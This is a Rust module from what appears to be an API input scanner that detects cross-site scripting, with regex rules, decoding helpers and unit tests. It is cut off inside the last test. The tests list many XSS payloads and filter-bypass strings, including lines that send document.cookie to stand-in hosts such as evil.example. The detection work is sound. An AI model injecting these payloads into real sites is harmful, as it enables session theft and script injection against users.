//! Cross-site scripting: markup and script that a browser would run if the API echoed the value.
//!
//! Matched on the fully decoded form (entities, percent and `\u` escapes undone), so
//! `&#x6A;avascript&colon;` and `%3Cscript%3E` look like what the browser sees. The rules look for
//! *executable* shapes: script tags, event-handler attributes inside a tag or after a quote that
//! closes one, `javascript:`/`vbscript:`/`data:` URLs in a position a browser follows, CSS
//! `expression()`, UTF-7 and JSFuck encodings, and a quote/tag breakout followed by a JavaScript
//! call; also the legacy and XML ways to run script (VML, XML Events, XSLT, data binding,
//! `&{...}` entities, US-ASCII `¼script¾`) and inline styles that break out of their declaration.
//! What a script or style parser ignores is undone too, and the rules run again on that form:
//! `/* */` comments (`document/**/.cookie`) and CSS escapes (`expr\65 ssion(`). A JavaScript
//! call alone (`eval(x)` in a code snippet, `alert()` in prose) is only Medium: API payloads
//! carry code samples, and those must not block; a value that is nothing *but* a dialog call
//! (`confirm(1)`) is a probe. Likewise an element that embeds content or styles a document
//! (inline `<svg>`, a video `<iframe>`, `<style>`, `<meta charset>`, `<link rel="stylesheet">`) is
//! only Medium in a JSON text field, where rich text and e-mail HTML travel, and so is a whole SVG
//! document in any body field (an icon upload); what would run in it (a handler, a script URL,
//! `<foreignObject>`, an animation rewriting a link, an external `<use>`) is a rule of its own.

use super::gate::{gated, in_sorted, lit, skip_space, skip_space_comments, skip_space_comments_back, starts_word, word_before};
use super::{is_json_text, stronger, Check, Family, Hit, Rules, Subject, Trigger};
use crate::fields::Part;
use crate::finding::Severity::{Critical, High, Medium};

/// Gate for `<`: a tag, end tag, comment or declaration starts (`a < b` and `<3` do not).
fn tag_start(b: &[u8], _s: usize, e: usize) -> bool {
    b.get(e).is_some_and(|&c| c.is_ascii_alphabetic() || matches!(c, b'/' | b'!' | b'?'))
}

/// Gate for `=`: the name before it is an event handler (`onerror =`).
fn handler_assignment(b: &[u8], s: usize, _e: usize) -> bool {
    let mut buf = [0u8; 24];
    let w = word_before(b, s, &mut buf);
    w.len() > 3 && w.starts_with(b"on")
}

/// Gate for `data:`: a media type or a comma follows, as in a data URL.
fn data_url(b: &[u8], _s: usize, e: usize) -> bool {
    let rest = &b[e.min(b.len())..];
    rest.first() == Some(&b',') || rest.iter().take(40).position(|&c| c == b'/').is_some_and(|p| p > 0 && rest[..p].iter().all(|c| c.is_ascii_alphanumeric() || *c == b'-' || *c == b'+' || *c == b' '))
}

/// JavaScript functions whose call is the point of a payload. Sorted.
const JS_CALLS: &[&str] = &[
    "alert", "atob", "btoa", "confirm", "eval", "execscript", "expression", "fetch", "import", "open", "print",
    "prompt", "setimmediate", "setinterval", "settimeout", "url", "write", "writeln",
];

/// Gate for `(` and a backquote: the word before is a JavaScript sink (`alert(`, ``confirm`1` ``).
fn js_call(b: &[u8], s: usize, _e: usize) -> bool {
    let mut buf = [0u8; 24];
    in_sorted(JS_CALLS, word_before(b, s, &mut buf))
}

/// Gate for a backquote: a sink called with a template ([`js_call`]), or a function called
/// through one (``.call`${alert}1` ``, ``Function`x``` ``, ``Set.constructor`x``` ``).
fn template_call(b: &[u8], s: usize, e: usize) -> bool {
    let mut buf = [0u8; 24];
    js_call(b, s, e) || matches!(word_before(b, s, &mut buf), b"call" | b"apply" | b"bind" | b"function" | b"constructor")
}

/// Gate for a dialog or `eval` named as a value, not called (`(alert)(1)`, `.map(alert)`,
/// `onerror=alert;`, `(0,eval)(x)`): an opening parenthesis, `=` or `,` before it, a closing
/// one, `;` or `,` after; or a method that calls it follows (`alert.call(`).
fn dialog_as_value(b: &[u8], s: usize, e: usize) -> bool {
    let before = b[..s].iter().rev().find(|c| !c.is_ascii_whitespace());
    let after = b[e.min(b.len())..].iter().find(|c| !c.is_ascii_whitespace());
    let mut buf = [0u8; 24];
    let invoked = after == Some(&b'.') && matches!(super::gate::word_at(b, skip_space(b, skip_space(b, e) + 1), &mut buf), b"call" | b"apply" | b"bind");
    invoked || (matches!(before, Some(b'(' | b'=' | b',')) && matches!(after, Some(b')' | b';' | b',')))
}

/// Gate for `[`: indexing a global object (`top['al'+'ert']`, `self /*x*/ [`).
fn js_global_index(b: &[u8], s: usize, _e: usize) -> bool {
    let mut buf = [0u8; 24];
    let end = skip_space_comments_back(b, s);
    matches!(word_before(b, end, &mut buf), b"self" | b"top" | b"parent" | b"frames" | b"globalthis" | b"window" | b"this" | b"document")
}

/// Gate for a global's name: a member is accessed (`document.cookie`, `window[`), also past
/// comments and a closing parenthesis (`document /**/ .cookie`, `(document)["cookie"]`).
fn member_access(b: &[u8], _s: usize, e: usize) -> bool {
    let mut i = skip_space_comments(b, e);
    if b.get(i) == Some(&b')') {
        i = skip_space_comments(b, i + 1);
    }
    matches!(b.get(i), Some(b'.' | b'['))
}

/// Gate for `location`: a member is accessed ([`member_access`]) or it is assigned
/// (`";location='//evil.example'`).
fn location_use(b: &[u8], s: usize, e: usize) -> bool {
    member_access(b, s, e) || b.get(skip_space(b, e)) == Some(&b'=')
}

/// Gate for `behavior`: a CSS property (`behavior: url(..)`).
fn then_colon(b: &[u8], _s: usize, e: usize) -> bool {
    b.get(skip_space(b, e)) == Some(&b':')
}


/// Elements that run nothing by themselves and that rich text and HTML documents carry (an inline
/// SVG icon, a video `<iframe>`, an e-mail's `<meta charset>`, `<link rel="stylesheet">` and
/// `<style>`): in a JSON text field only Medium when nothing else (a handler, a script URL, a
/// script tag, a cookie set through `http-equiv`) is there; anywhere else High.
const EMBEDDED: &str = "embedded content element";

/// Gate for `import`: an ES module import clause (`import {a} from`, `import * as m from`).
fn import_clause(b: &[u8], s: usize, e: usize) -> bool {
    starts_word(b, s, e) && matches!(b.get(skip_space(b, e)), Some(b'{' | b'*'))
}

/// Whether a value is a whole SVG document (an uploaded icon, a logo in a JSON or form field):
/// an image unless a rule of its own finds script, a handler, a script URL or an active element
/// in it, so its `<svg>` element alone is [`EMBEDDED`] content, not an injection.
fn is_svg_document(text: &str) -> bool {
    let t = text.trim();
    // Before the `<svg>` element only a prolog, a doctype and comments (what editors write).
    let Some(start) = t.find("<svg") else { return false };
    let prolog = t.as_bytes()[..start].split(|&c| c == b'<').skip(1).all(|d| matches!(d.first(), Some(b'?' | b'!')));
    (start == 0 || t.starts_with('<')) && prolog && t.ends_with("</svg>")
}

pub(crate) struct Xss {
    rules: Rules,
    /// Script that is an injection outside a JSON text field, where code samples do not travel.
    strict_rules: Rules,
    /// The closing tag of a title or raw-text element (`</title>`, `</textarea>`): see [`Xss::breakout`].
    closing: regex::Regex,
}

/// Event handler names are `on` + a DOM event; a short list of prefixes keeps `one=`/`only=` out.
const HANDLER: &str = r"on(?:[a-z]*(?:error|load|mouse|focus|blur|click|key|submit|change|input|toggle|begin|end|animation|transition|pointer|touch|drag|drop|resize|scroll|wheel|copy|cut|paste|before|after|hashchange|message|page|popstate|readystate|search|select|show|start|abort|can|play|pause|seek|progress|ended|invalid|reset|context|finish|bounce|activate|help|filterchange|move|propertychange|unload|ready|repeat|zoom|layout|open|close|loadstart|online|offline|storage|hover|data|contextmenu|gesture|time|rowenter|rowexit|stop|exit|waiting|stalled|suspend|emptied|violation|capture))[a-z]*";

impl Xss {
    pub fn new() -> Result<Xss, String> {
        // Browsers skip punctuation between an attribute name and its `=` (`onload!#$%=`).
        let tag_handler = format!(r#"<[a-z!?/][^>]*?[\s/"'`;:]{HANDLER}[!#$%&()*~+\-_.,:;?@\[/|\\\]^`]*\s*="#);
        let quote_handler = format!(r#"(?:^|["'`]\s*|[\s/])/?{HANDLER}\s*=\s*[^\s]{{0,40}}?(?:\(|`|javascript|&#|\bx\b|>)"#);
        let quote_handler_weak = format!(r#"["'`]\s*{HANDLER}\s*="#);
        let split_scheme = split_by_controls("javascript:");
        let table = [
            (r"<\s*/?\s*(?:[a-z0-9]+:)?script\b", Critical, 0.95, "script tag"),
            (tag_handler.as_str(), Critical, 0.92, "event handler in a tag"),
            (r#"(?:^|[\s"'`=(<>/,;])(?:j\s*a\s*v\s*a|v\s*b|l\s*i\s*v\s*e)\s*s\s*c\s*r\s*i\s*p\s*t\s*:(?:[^\s]|\s*[a-z_$][\w$.]*\s*[(`=])"#, Critical, 0.9, "script URL"),
            (split_scheme.as_str(), Critical, 0.9, "script URL split by control characters"),
            (r#"<[a-z][^>]*?=[^>]*?\b(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|atob|execscript)\s*[(`]"#, High, 0.85, "script call in a tag attribute"),
            (r#"<\s*(?:[a-z0-9]+:)?(?:frame|frameset|object|embed|applet|base|import|isindex|xml|layer|ilayer|bgsound|portal|xss|handler|listener|vmlframe|stylesheet|transform)\b|<\?\s*(?:import|xml-stylesheet)\b"#, High, 0.85, "active HTML element"),
            // What makes an SVG image active besides script and handlers: HTML carried inside it,
            // an animation that rewrites a link, a `<use>` that pulls in another document.
            (r#"<\s*(?:[a-z0-9]+:)?foreignobject\b|<\s*(?:[a-z0-9]+:)?(?:animate|set)\b[^>]*?attributename\s*=\s*["'`]?\s*(?:xlink:)?href\b|<\s*(?:[a-z0-9]+:)?use\b[^>]*?href\s*=\s*["'`]?\s*(?:[a-z][a-z0-9+.-]*:|//)"#, High, 0.85, "active SVG element"),
            // Listed after the rules above, which win a tie: see `EMBEDDED`.
            (r#"<\s*(?:[a-z0-9]+:)?(?:iframe|svg|math|style|template|animate|set|meta|link)\b"#, High, 0.85, EMBEDDED),
            // Elements whose content the parser reads as raw text: markup hidden inside them
            // re-parses into live tags (mutation XSS, `<noscript><p title="</noscript><img ...`).
            (r#"<\s*(?:noscript|noembed|noframes|xmp|plaintext|listing)\b"#, High, 0.75, "raw-text HTML element"),
            (r#"xmlns(?::[a-z0-9_-]+)?\s*=\s*["'`]?\s*(?:https?://www\.w3\.org/(?:2001/xml-events|1999/xsl/transform)|urn:schemas-microsoft-com:(?:vml|xslt))"#, High, 0.85, "active XML namespace"),
            (r#"<[a-z][^>]*?[\s/"'`](?:datasrc|dataformatas|datafld)\s*="#, High, 0.85, "data binding attribute"),
            // A button or input that sends its form elsewhere (`<button formaction=//evil.example>`).
            (r#"<[a-z][^>]*?[\s/"'`]formaction\s*="#, High, 0.8, "form action override in a tag"),
            // A URL a browser runs as a page or a script, wherever it lands (`src`, `href`,
            // `location`): HTML, XHTML or script media types, or script right after `data:,`.
            (r#"(?:^|[\s"'`=(,;])data:\s*(?:text/(?:html|javascript|ecmascript|xml)|application/(?:x-)?(?:javascript|ecmascript|xhtml\+xml))\s*[;,]|(?:^|[\s"'`=(,;])data:\s*,\s*[a-z_$][\w$.]*\s*[(`]"#, High, 0.8, "script data: URL"),
            (r#"(?:src|href|action|formaction|data|xlink:href|background|dynsrc|lowsrc|poster|code|codebase|content)\s*=\s*["'`]?\s*data:(?:[^,]*(?:html|svg|javascript|xml)|[^,]*base64|,)"#, High, 0.85, "data: URL in an attribute"),
            (quote_handler.as_str(), High, 0.85, "event handler after a quote"),
            (r#"["'`]\s*>\s*<\s*[a-z!/]"#, Medium, 0.8, "attribute breakout into a tag"),
            // Stronger than `EMBEDDED`, so a `<style>` element running script is no rich text.
            (r#"(?:style\s*=|[{;]\s*[a-z-]*\s*:)[^>]*?(?:expression\s*\(|(?:-moz-)?binding\s*:|behavior\s*:|javascript:|@import)|-moz-binding\s*:\s*url\s*\("#, High, 0.86, "script in CSS"),
            (r#"style\s*=\s*(?:"[^">]*?|'[^'>]*?|[^\s"'>]*?)(?:[a-z0-9]\[|\][a-z;:]|[a-z0-9]\s*\{\s*[a-z-]+\s*[;:]|\}\s*[a-z#.*-][a-z0-9-]*\s*[{:=]|url\s*\(\s*[^"'\s)]+(?:;|\s+[^\s)]))|style\s*=\s*(?:"[^">]*?'[^'">\n]*|'[^'>]*?"[^"'>\n]*)[\n\r\x0c][^"'>]*?;\s*[a-z-]+\s*:"#, High, 0.75, "CSS breakout in a style attribute"),
            (r"\+ad[wz]-|\+acia-|\+ajw-", High, 0.8, "UTF-7 encoded markup"),
            (r#"=\s*["'`]?\s*&\{[^}]*\}"#, High, 0.8, "JavaScript entity in an attribute"),
            ("[\u{bc}\u{fffd}]\\s*/?\\s*script\\b|\u{bc}\\s*/?\\s*(?:img|svg|iframe|body|style|input|object|embed)\\b", High, 0.8, "US-ASCII encoded markup"),
            (r"[\[\]()!+]{24,}", High, 0.85, "JSFuck-style encoding"),
            (r"[(\[!+]\s*!\s*\[\s*\][\s\[\]()!+]{4,}", High, 0.85, "JSFuck-style encoding"),
            // After `',` only a dialog or eval: `'click', function(` and `'a', print(` are a
            // code snippet's argument list; so is a call on the next line (`')\nprint(`).
            (r#"(?:["'`]\s*[-+*/;|&)}\]]|;|\*/|-->)[ \t]*(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|atob|import|function|print|open)\s*[(`]|["'`]\s*,\s*(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|atob)\s*[(`]"#, High, 0.8, "quote breakout then script call"),
            // A string or attribute left to send the page elsewhere: to a URL, a script URL, or
            // what the attacker's window name or the URL fragment holds (`";location=name;//`).
            (r#"["'`]\s*[-+*/;|&)}\],][-+*/;|&)}\],\s]*(?:(?:window|document|top|self|parent)\s*\.\s*)?location(?:\s*\.\s*href)?\s*=\s*(?:["'`]\s*(?://|https?:|javascript:|data:)|(?:window\s*\.\s*)?name\b|location\s*\.\s*hash\b|document\s*\.\s*cookie\b)"#, High, 0.8, "quote breakout then redirect"),
            // A function called by a tagged template instead of parentheses
            // (``[].sort.call`${alert}1` ``, ``Function`alert\x281\x29``` ``).
            (r"\.\s*(?:call|apply|bind)\s*`[^`]*`|\b(?:function|constructor)\s*`[^`]*`", High, 0.8, "function called through a template literal"),
            // A template-literal placeholder that opens a dialog, evaluates code or reaches the
            // cookie, the document or the page's location (`${alert(document.domain)}`): what a
            // value echoed into a script's template string runs. Reading a property
            // (`${window.location.origin}`, `${user.name}`) is a code sample's.
            (r"\$\{[^{}]{0,100}?(?:\b(?:alert|prompt|confirm|eval)\s*[(`]|\bdocument\s*\.\s*(?:cookie|domain|write(?:ln)?\s*\()|\blocation(?:\s*\.\s*href)?\s*=[^=])[^{}]{0,100}\}", High, 0.85, "script in a template-literal placeholder"),
            (r"^\s*(?:alert|prompt|confirm|atob|btoa|eval)\s*(?:\([^()]{0,64}\)|`[^`]{0,64}`)\s*;?\s*$|^\s*(?:window\s*\.\s*)?print\s*\(\s*\)\s*;?\s*$", High, 0.75, "lone script call"),
            (r"\b(?:document|window|self|top|parent|frames|globalthis|this)\s*(?:/\*.*?\*/\s*)+[.\[]|\b(?:document|window)\s*\.\s*/\*", High, 0.8, "comment-obfuscated DOM access"),
            (r#"\b(?:self|top|parent|frames|globalthis|window|this|document)\s*\)?\s*\[\s*(?:["'`/]|[a-z_]+\s*\+)"#, High, 0.7, "obfuscated global object access"),
            (r#"(?:document\s*\)?\s*(?:\.\s*|\[\s*["'`])(?:cookie|domain|write|location)|window\s*\)?\s*(?:\.\s*|\[\s*["'`])(?:location|name|open)|\.\s*(?:inner|outer)html\s*=|fromcharcode|\bconstructor\s*\.\s*constructor|\blocation\s*\.\s*(?:href|hash|replace)\b|\bsrcdoc\s*=)"#, Medium, 0.8, "DOM sink"),
            (quote_handler_weak.as_str(), Medium, 0.7, "event handler name after a quote"),
            (r"\b(?:alert|prompt|confirm|eval|btoa|atob)\s*\(", Medium, 0.6, "script call"),
        ];
        // A string-evaluating timer given code, and ES module imports: what a page's script
        // does, never what a URL, header, form or XML value holds; in a JSON text field they are
        // a code sample (and fractions there are recipes).
        let strict = [
            (r#"\b(?:settimeout|setinterval|setimmediate|execscript)\s*(?:\(\s*(?:["'`]|[a-z_$][\w$.]*\s*(?:\(|\)|,\s*\d))|`)"#, High, 0.7, "script timer given code"),
            // A value that is nothing but a DOM sink (`document.cookie`, `window.location.href`,
            // `x.parentNode.innerHTML`), no sentence around it: a probe for where input lands.
            (r#"^\s*(?:document\s*\.\s*(?:cookie|domain|write(?:ln)?|location)|window\s*\.\s*location|[a-z_$][\w$]*(?:\s*\.\s*[a-z_$][\w$]*)*\s*\.\s*(?:innerhtml|outerhtml))\b[^\s]{0,60}$"#, High, 0.7, "DOM sink as the whole value"),
            (r#"\bimport\s*(?:\{[^}]*\}|\*\s*as\s+[a-z_$][\w$]*)\s*from\s*["'`]|\bimport\s*\(\s*["'`]"#, High, 0.7, "JavaScript module import"),
            // A style sheet pulled in from elsewhere, and an SVG image as a data URL (SVG runs
            // script when opened as a document): what page templates and avatar uploads in a
            // JSON document carry, not a URL or form value.
            (r#"@import\s*(?:url\s*\(|["'`])|(?:^|[\s"'`=(,;])data:\s*image/svg\+xml\s*[;,]"#, High, 0.7, "style sheet import or SVG data: URL"),
            // US-ASCII `<tag>` with the high bit set (`¼` `¾` are 0xBC 0xBE), which 7-bit
            // decoders turn back into markup; prose has these fractions apart (`¼ cup`), not
            // wrapped around a word. (A raw 0xBC byte is not UTF-8 and reads as U+FFFD, like any
            // Latin-1 letter, so only the characters themselves count.)
            ("\u{bc}/?[a-z][a-z0-9]*[^\u{bc}\u{be}<>]{0,100}\u{be}", High, 0.75, "US-ASCII encoded tag"),
            // The cookie read into an expression, a document written, the page sent elsewhere, a
            // string built from character codes, a global indexed by a call (`self[atob(..)]`):
            // a page's script at work, which a sentence that names `document.cookie` is not.
            (r#"document\s*\.\s*(?:cookie|domain)\s*[;+)\],]|[=+(,]\s*document\s*\.\s*(?:cookie|domain)\b|document\s*\.\s*write(?:ln)?\s*\(|(?:window|document|top|self|parent)\s*\.\s*location(?:\s*\.\s*href)?\s*=[^=]|\blocation\s*\.\s*href\s*=[^=]|\bstring\s*\.\s*fromcharcode\s*\(|\b(?:self|top|parent|frames|window|globalthis)\s*\[\s*[a-z_$][\w$]*\s*\(|[+=(,]\s*(?:localstorage|sessionstorage)\s*[.\[]|\.\s*(?:inner|outer)html\s*=\s*(?:(?:document\s*\.\s*)?location\b|document\s*\.\s*(?:cookie|url|referrer)\b|(?:window\s*\.\s*)?name\b)"#, High, 0.7, "script reaching the DOM"),
            // A dialog called through a global (`top.alert(1)`) or handed over as a value
            // (`(alert)(1)`, `[1].map(alert)`, `onerror=alert;throw 1`): the probes of a filter
            // bypass.
            (r#"\b(?:window|self|top|parent|frames|globalthis|this)\s*\.\s*(?:alert|prompt|confirm|eval|execscript)\s*[(`]|\(\s*(?:\d+\s*,\s*)?(?:alert|prompt|confirm|eval)\s*\)\s*[(`]|\.\s*(?:map|foreach|call|apply|then|find|filter|some|every)\s*\(\s*(?:alert|prompt|confirm|eval)\s*\)|\bon[a-z]+\s*=\s*(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript)\s*(?:[;,)}]|$)|\b(?:alert|prompt|confirm|eval)\s*\.\s*(?:call|apply|bind)\s*[(`]|\breflect\s*\.\s*apply\s*\(\s*(?:alert|prompt|confirm|eval)\b"#, High, 0.75, "dialog reached through a global or passed as a value"),
        ];
        Ok(Xss {
            rules: Rules::new(Family::Xss, &table)?,
            strict_rules: Rules::new(Family::Xss, &strict)?,
            closing: super::regex(r"<\s*/\s*(title|textarea|style|noscript|iframe|xmp|plaintext)\s*>")?,
        })
    }

    /// A tag breakout: a value that closes a title or raw-text element more often than it opened
    /// one (`</textarea><img ...`), ending the page's element to start markup of its own. A
    /// document or fragment that opened the element itself (an e-mail's `<title>News</title>`)
    /// closes its own.
    fn breakout(&self, text: &str) -> Option<Hit> {
        let b = text.as_bytes();
        let opened_before = |name: &[u8], end: usize| {
            let opens_at = |i: usize| {
                let rest = b.get(i + 1..).unwrap_or_default();
                rest.starts_with(name) && rest.get(name.len()).is_some_and(|&c| c == b'>' || c == b'/' || c.is_ascii_whitespace())
            };
            b[..end].iter().enumerate().filter(|&(i, &c)| c == b'<' && opens_at(i)).count()
        };
        let mut closes: Vec<&str> = Vec::new();
        for c in self.closing.captures_iter(text).take(16) {
            let (Some(close), Some(name)) = (c.get(0), c.get(1)) else { continue };
            closes.push(name.as_str());
            let closed = closes.iter().filter(|&&n| n == name.as_str()).count();
            if closed > opened_before(name.as_str().as_bytes(), close.start()) {
                return Some(Hit::new(Family::Xss, High, 0.8, close.start(), "tag breakout"));
            }
        }
        None
    }
}

/// A pattern for `word` with tabs or line breaks inside it (at least one), which browsers skip in
/// a URL scheme (`ja\tvascript:`): unlike spaces, nobody types them there.
fn split_by_controls(word: &str) -> String {
    let atoms: Vec<String> = word.chars().map(|c| regex::escape(&c.to_string())).collect();
    let alternatives: Vec<String> = (1..atoms.len())
        .map(|k| format!("{}[\\t\\n\\r]+{}", atoms[..k].join("[\\t\\n\\r]*"), atoms[k..].join("[\\t\\n\\r]*")))
        .collect();
    format!("(?:{})", alternatives.join("|"))
}

/// Undoes what a script or style parser ignores: `/* ... */` comments (`document/**/.cookie`)
/// and CSS escapes (`\28` is `(`, `\65 ` is `e`, `\x` is `x`); and the XML CDATA markers that
/// split a tag for a filter but not for an XML parser (`<![CDATA[<]]>script`). `None` when
/// there is none of these.
fn script_fold(text: &str) -> Option<String> {
    const CDATA: &str = "<![cdata[";
    let b = text.as_bytes();
    if !b.contains(&b'\\') && !text.contains("/*") && !text.contains(CDATA) {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'/' if b.get(i + 1) == Some(&b'*') => match text[i + 2..].find("*/") {
                Some(p) => i += 2 + p + 2,
                None => break,
            },
            b'<' if text[i..].starts_with(CDATA) => i += CDATA.len(),
            b']' if text[i..].starts_with("]]>") => i += 3,
            b'\\' => {
                let hex = b[i + 1..].iter().take(6).take_while(|c| c.is_ascii_hexdigit()).count();
                if hex == 0 {
                    i += 1;
                    continue;
                }
                let cp = u32::from_str_radix(&text[i + 1..i + 1 + hex], 16).unwrap_or(0xfffd);
                out.push(char::from_u32(cp).unwrap_or('\u{fffd}').to_ascii_lowercase());
                i += 1 + hex;
                if b.get(i).is_some_and(u8::is_ascii_whitespace) {
                    i += 1;
                }
            }
            _ => {
                let len = text[i..].chars().next().map_or(1, char::len_utf8);
                out.push_str(&text[i..i + len]);
                i += len;
            }
        }
    }
    Some(out)
}

impl Check for Xss {
    fn triggers(&self) -> &'static [Trigger] {
        const T: &[Trigger] = &[
            gated("<", tag_start),
            gated("=", handler_assignment),
            lit("script"),
            lit("cript:"),
            gated("data:", data_url),
            gated("(", js_call),
            gated("`", template_call),
            gated("[", js_global_index),
            gated("document", member_access),
            gated("window", member_access),
            gated("location", location_use),
            lit("fromcharcode"),
            gated("alert", dialog_as_value),
            gated("prompt", dialog_as_value),
            gated("confirm", dialog_as_value),
            gated("eval", dialog_as_value),
            lit("localstorage"),
            lit("sessionstorage"),
            lit("constructor"),
            lit("innerhtml"),
            lit("outerhtml"),
            lit("srcdoc"),
            lit("-moz-binding"),
            gated("behavior", then_colon),
            lit("@import"),
            lit("+adw-"),
            lit("+adz-"),
            lit("+acia-"),
            lit("+ajw-"),
            lit("![]"),
            lit("+[]"),
            lit("[]["),
            gated("import", import_clause),
            lit("\u{bc}"),
        ];
        T
    }

    fn check(&self, s: &Subject<'_>) -> Option<Hit> {
        let folded = script_fold(s.text);
        let hit = self.rules.best_either(s.text, folded.as_deref());
        let hit = stronger(hit, self.breakout(s.text).or_else(|| self.breakout(folded.as_deref()?)));
        if is_json_text(s) || (s.part == Part::Body && is_svg_document(s.text)) {
            return hit.map(|h| if h.detail == EMBEDDED { h.at_most(Medium, 0.6) } else { h });
        }
        stronger(hit, self.strict_rules.best(s.text))
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;

    #[test]
    fn redirects_form_overrides_templates_and_script_urls() {
        use crate::fields::Part;
        for v in [
            "\";location='//evil.example/x';//",
            "'-top.location.href=\"javascript:x()\"-'",
            "\"};location=name;//",
            "x');document.location=location.hash//",
            "<button formaction=//evil.example/steal>Go</button>",
            "<input type=submit formaction=\"https://evil.example\">",
            "[].sort.call`${alert}7`",
            "Reflect.apply.call`${x}${y}`",
            "Function`a\\x28b\\x29```",
            "data:text/html;base64,PGI+eDwvYj4=",
            "data: application/javascript,go()",
            "data:,go(1)",
            "a{-moz-binding:url(//evil.example/b.xml#c)}",
            "<?import namespace=\"t\" implementation=\"#default#time2\">",
            "<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/t.xsl\"?>",
            "\"autofocus/onfocus=go(1)//",
            "\" onwaiting=\"go(1)",
            "print()",
            "Set.constructor`go\\x28\\x29```",
            "<div style=\"binding:url(//evil.example/x.xml#x)\">",
            "<div style=\"font-family:'a&#10;;background:url(//evil.example/x)';\">",
            "<foo><![CDATA[<]]>script<![CDATA[>]]>go()<![CDATA[<]]>/script<![CDATA[>]]></foo>",
        ] {
            assert!(flags("attack.xss", v), "{v}");
            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
        }
        for v in ["@import url(//evil.example/x.css);", "data:image/svg+xml;base64,PHN2Zz4=", "(0,eval)(code)"] {
            assert!(flags("attack.xss", v), "{v}");
            assert!(!flags_in_json("attack.xss", v), "{v} in a JSON text field");
        }
        assert!(flags_in_json("attack.xss", "<style>*{x:expression(go(1))}</style>"), "a style element running script");
        for v in [
            "Set env = \"prod\"; location = \"eu-west\"",
            "'Paris'; location='office 2'",
            "data:image/png;base64,iVBORw0KGgo=",
            "data: 42 rows, text/html output",
            "call `make` then `make install`",
            "the formaction attribute overrides the action",
            "Please print() the page",
            "@import is a CSS at-rule",
            "Buy 2, eval later",
            "print(total)",
            "<p style=\"font-family:'Open Sans'\">\nline two; color: red</p>",
            "<![CDATA[ 1 < 2 ]]>",
            "binding: ctrl+s",
        ] {
            assert!(!flags("attack.xss", v), "{v}");
        }
    }

    #[test]
    fn script_in_template_literal_placeholders() {
        use crate::fields::Part;
        for v in ["${alert(document.domain)}", "x${confirm`1`}", "${ prompt(1) }", "${eval(atob('Z28oKQ=='))}", "${fetch('//evil.example/?c='+document.cookie)}", "${document.write('<b>x</b>')}", "${location='//evil.example'}", "a`;${top.location.href='//evil.example'}"] {
            assert!(flags("attack.xss", v), "{v}");
            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
            assert!(flags_in_json("attack.xss", v), "{v} in a JSON text field");
        }
        for v in [
            "Hello ${user.name}, your order ${order.id} shipped",
            "const url = `${window.location.origin}/api/${id}`",
            "${document.title} - ${site}",
            "${location == 'eu' ? 'EUR' : 'USD'}",
            "price: ${amount} (confirm before paying)",
            "${alert_count} alerts",
            "${APP_DOMAIN}/cookie-policy",
        ] {
            assert!(!any_flag_in_json(v), "{v}");
            assert!(!flags("attack.xss", v), "{v} in a query");
        }
    }

    #[test]
    fn dialogs_through_globals_or_as_values() {
        for v in ["top.alert(1)", "window.confirm`1`", "(alert)(1)", "[1].map(alert)", "onerror=alert;throw 1", "x='+localStorage.token"] {
            assert!(flags("attack.xss", v), "{v}");
        }
        for v in ["(alert) notifications", "set alert = true", "confirm your email", "localStorage docs", "eval, test; deploy"] {
            assert!(!flags("attack.xss", v), "{v}");
        }
    }

    #[test]
    fn script_reaching_the_dom_outside_json_text() {
        use crate::fields::Part;
        for v in ["x'+document.cookie+'", "el.innerHTML=location.hash", "b.outerHTML = document.referrer", "new Image().src='//e.example/?'+document.cookie", "document.write('<b>x</b>')", "window.location='//e.example'", "top.location.href = '//e.example'", "String.fromCharCode(88,83,83)", "self[atob('YWxlcnQ=')](1)"] {
            assert!(flags("attack.xss", v), "{v}");
            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
        }
        for v in ["see the document.cookie policy page", "location.href docs", "window location", "self [note]"] {
            assert!(!flags("attack.xss", v), "{v}");
        }
        assert!(!any_flag_in_json("Call document.write(html) only before the page loads"), "a code sample in a JSON text field");
    }

    #[test]
    fn timers_handlers_and_lone_dom_sinks_outside_json_text() {
        use crate::fields::Part;
        for v in ["alert.call(null, 1)", "Reflect.apply(confirm, window, [1])", "setTimeout`x`", "setInterval(code, 1)", "setTimeout(payload)", "window.onerror=eval", "document.onclick = setTimeout", "document.cookie", "window.location.href", "this.parentNode.innerHTML", "document.domain;"] {
            assert!(flags("attack.xss", v), "{v}");
            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
        }
        for v in ["alert.calls (history)", "apply alert rules", "setTimeout docs", "set a timeout (30s)", "onerror=retry", "read document.cookie docs", "the window location", "parentNode", "see x.innerHTML in the guide", "x.parentNode"] {
            assert!(!flags("attack.xss", v), "{v}");
        }
        for v in ["setTimeout(callback)", "document.cookie", "el.parentNode.innerHTML"] {
            assert!(!any_flag_in_json(v), "{v} is a code sample in a JSON text field");
        }
    }

    #[test]
    fn an_svg_image_in_a_body_needs_script() {
        use crate::fields::Part;
        let upload = |v: &str| flags_at("attack.xss", Part::Body, v);
        for v in [
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 16 16\"><rect x=\"1\" y=\"1\" width=\"14\" height=\"14\" rx=\"3\"/><polyline points=\"4,8 7,11 12,5\" fill=\"none\"/></svg>",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- Generator: Inkscape -->\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg width=\"40\" height=\"40\"><defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#09f\"/></linearGradient><style>.a{fill:url(#g)}</style></defs><ellipse class=\"a\" cx=\"20\" cy=\"20\" rx=\"18\" ry=\"12\"/><text x=\"4\" y=\"24\">Logo</text><use href=\"#g\"/><animate attributeName=\"opacity\" from=\"0\" to=\"1\" dur=\"1s\"/></svg>",
            "  <svg viewBox=\"0 0 2 2\"><a href=\"https://example.com/about\"><circle r=\"1\"/></a></svg>\n",
        ] {
            assert!(!upload(v), "{v}");
            assert!(flags("attack.xss", v), "{v} in a URL");
        }
